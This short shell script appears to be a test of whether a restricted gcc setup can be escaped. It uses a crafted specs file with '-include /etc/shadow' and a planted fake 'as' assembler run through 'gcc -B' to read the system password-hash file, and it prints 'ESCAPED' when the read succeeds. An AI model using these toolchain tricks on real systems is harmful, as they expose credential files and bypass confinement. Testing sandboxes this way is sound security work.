printf '*cc1:\n+ -include /etc/shadow\n\n' > a.specs
echo 'int main(void){return 0;}' > a.c
gcc -specs=a.specs a.c 2>&1 | grep root: && echo ESCAPED
mkdir tools
printf '#!/bin/sh\ncat /etc/shadow && echo ESCAPED\necho the assembler is inside\nexec /usr/bin/as "$@"\n' > tools/as
chmod +x tools/as
gcc -B./tools a.c && ./a.out && echo built
echo done
